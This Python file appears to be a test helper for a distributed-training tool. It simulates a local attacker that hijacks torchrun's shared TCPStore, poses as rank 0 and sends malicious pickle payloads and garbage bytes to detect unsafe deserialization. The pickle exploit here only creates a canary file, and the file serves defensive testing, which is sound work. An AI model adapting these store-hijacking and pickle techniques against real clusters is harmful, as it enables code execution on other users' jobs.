"""Another account of this machine, which attacks a run of several ranks while it starts and while
it trains. It knows the port of torchrun's store, which anybody can read and write.
"""

from __future__ import annotations

import contextlib
import encodings.idna  # noqa: F401  another account may not read it later, and sockets need it
import json
import os
import pickle
import socket
import sys
import threading
import time
from collections.abc import Iterable, Iterator
from datetime import timedelta
from ipaddress import ip_address
from multiprocessing.connection import Connection, answer_challenge, deliver_challenge
from pathlib import Path

from torch import distributed

KEY = "ramstream/rank-0"
NAMED = b"\0" * 32
"""The stranger tells this secret where it says that it is rank 0."""
SECONDS = 3.0
"""So long it goes on writing to the store once it has found rank 0."""


class Evil:
    """When it is unpickled, a file is made."""

    def __init__(self, file: Path):
        self.file = file

    def __reduce__(self) -> tuple:
        return open, (str(self.file), "w")


def garbage(file: Path) -> dict[str, bytes]:
    """Returns what strangers send, by its name. Whoever unpickles any of it makes `file`."""
    pickled = pickle.dumps(Evil(file))
    return {
        "pickled, as once": len(pickled).to_bytes(4, "big") + pickled,
        "pickled": len(pickled).to_bytes(8, "big") + pickled,
        "pickled, bare": pickled,
        "a wrong kind": b"\0" * 7 + b"\x14" + b"\x82\xa4type\xa2Go\xa6number\xa3one",
        "a length": b"\xff" * 8,
        "a web request": b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n",
        "random": os.urandom(4096),
        "nothing": b"",
    }


@contextlib.contextmanager
def attacked(agents: Iterable[int], folder: Path) -> Iterator[None]:
    """Has another account attack the run that these processes of torchrun start. What it makes
    others do is seen in `folder`, which is not its own.
    """
    found, tell = os.pipe()
    pid = os.fork()
    if not pid:
        try:
            os.close(tell)
            os.setgid(65534)
            os.setuid(65534)
            attack(found, folder)
        finally:
            os._exit(0)
    os.close(found)
    is_over = threading.Event()
    finding = threading.Thread(target=_find_ports, args=(list(agents), tell, is_over))
    finding.start()
    try:
        yield
    finally:
        is_over.set()
        finding.join()
        os.kill(pid, 9)
        os.waitpid(pid, 0)
        os.close(tell)


def _find_ports(agents: list[int], tell: int, is_over: threading.Event) -> None:
    """Tells each port at which torchrun listens, as a scan of all ports finds it."""
    known: set[int] = set()
    while not is_over.wait(0.01):
        found = {port for _, port in listening(*agents)}
        for port in sorted(found - known):
            os.write(tell, f"{port}\n".encode())
        known |= found


def attack(told: int, folder: Path) -> None:
    """Attacks rank 0 and a worker, for as long as this process runs. It is told the
    ports of stores.
    """
    own = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=_pose_as_rank_zero, args=(own, folder / "worker"), daemon=True).start()
    for line in os.fdopen(told):
        given = int(line), own.getsockname()[1], folder / "rank-0"
        threading.Thread(target=_attack_store, args=given, daemon=True).start()
    time.sleep(60)


def _attack_store(port: int, own: int, file: Path) -> None:
    with contextlib.suppress(Exception):  # it is no store, or no more
        store = distributed.TCPStore(
            "127.0.0.1", port, is_master=False, timeout=timedelta(seconds=5)
        )
        _write(store, own, file)


def _write(store: distributed.Store, port: int, file: Path) -> None:
    own = [json.dumps({"port": port, "secret": NAMED.hex()}), "{", '{"port": "x"}']
    until, turn = float("inf"), 0
    while time.monotonic() < until:
        turn += 1
        if store.check([KEY]):
            found = store.get(KEY).decode()
            if found not in own:
                until = min(until, time.monotonic() + SECONDS)
                _attack_rank_zero(json.loads(found), file)
        # Rank 0 and a worker both get their turn.
        store.set(KEY, own[turn % 3])
        time.sleep(0.03)


def _attack_rank_zero(told: dict, file: Path) -> None:
    for sent in garbage(file).values():
        with contextlib.suppress(OSError), _stream_to(told["port"]) as stream:
            stream.sendall(sent)
    secret = bytes.fromhex(told.get("secret", NAMED.hex()))
    with contextlib.suppress(Exception), _stream_to(told["port"]) as stream:
        connection = Connection(os.dup(stream.fileno()))
        answer_challenge(connection, secret)
        deliver_challenge(connection, secret)
        connection.send(Evil(file))


def _pose_as_rank_zero(listener: socket.socket, file: Path) -> None:
    """Answers a worker as a rank 0 that is none."""
    while True:
        stream, _ = listener.accept()
        with stream, contextlib.suppress(Exception):
            stream.settimeout(1)
            connection = Connection(os.dup(stream.fileno()))
            deliver_challenge(connection, NAMED)
            answer_challenge(connection, NAMED)
            connection.recv_bytes()
            connection.send(Evil(file))


def disturb(ports: set[int], file: Path) -> None:
    """Sends garbage to ports of this node."""
    for port in ports:
        for sent in garbage(file).values():
            with contextlib.suppress(OSError), _stream_to(port) as stream:
                stream.sendall(sent)


def _stream_to(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), 1)


# --------------------------------------------------------------------- who listens


def listening(*processes: int) -> set[tuple[str, int]]:
    """Returns the addresses and ports at which processes listen, as the system tells them."""
    own = {link for pid in processes for link in _sockets_of(pid)}
    found = set()
    for table in ("tcp", "tcp6"):
        for line in Path("/proc/net", table).read_text(encoding="ascii").splitlines()[1:]:
            words = line.split()
            address, _, port = words[1].partition(":")
            if words[3] == "0A" and f"socket:[{words[9]}]" in own:
                found.add((_address(address), int(port, 16)))
    return found


def beyond_loopback(*processes: int) -> set[tuple[str, int]]:
    """Returns where processes listen for others than this node."""
    return {each for each in listening(*processes) if not ip_address(each[0]).is_loopback}


def _sockets_of(pid: int) -> set[str]:
    found = set()
    with contextlib.suppress(OSError):  # it has ended
        for entry in Path(f"/proc/{pid}/fd").iterdir():
            with contextlib.suppress(OSError):
                found.add(str(entry.readlink()))
    return found


def _address(text: str) -> str:
    """Returns an address that the system wrote as words of four bytes in its own order."""
    raw = bytes.fromhex(text)
    words = [
        raw[at : at + 4][:: 1 if sys.byteorder == "big" else -1] for at in range(0, len(raw), 4)
    ]
    found = ip_address(b"".join(words))
    return str(getattr(found, "ipv4_mapped", None) or found)
